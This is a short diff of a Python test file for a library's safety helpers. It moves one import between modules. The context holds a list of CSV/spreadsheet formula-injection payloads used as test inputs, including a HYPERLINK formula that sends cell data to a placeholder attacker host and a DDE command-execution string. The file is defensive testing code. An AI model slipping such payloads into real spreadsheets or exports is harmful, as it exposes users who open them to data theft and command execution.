@@ -14,9 +14,10 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from libdigigov.safe_load import LimitedInputError, compose_yaml, read_json
+from libdigigov.io import save_figure_atomic
 from libdigigov.safety import (MAX_LINE, check_figure_format, check_output_path, check_regular_file,
                                confined_path, is_formula_like, missing_column_hint, neutralise_cell,
-                               neutralise_frame, one_line, safe_file_name, save_figure_atomic)
+                               neutralise_frame, one_line, safe_file_name)
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]
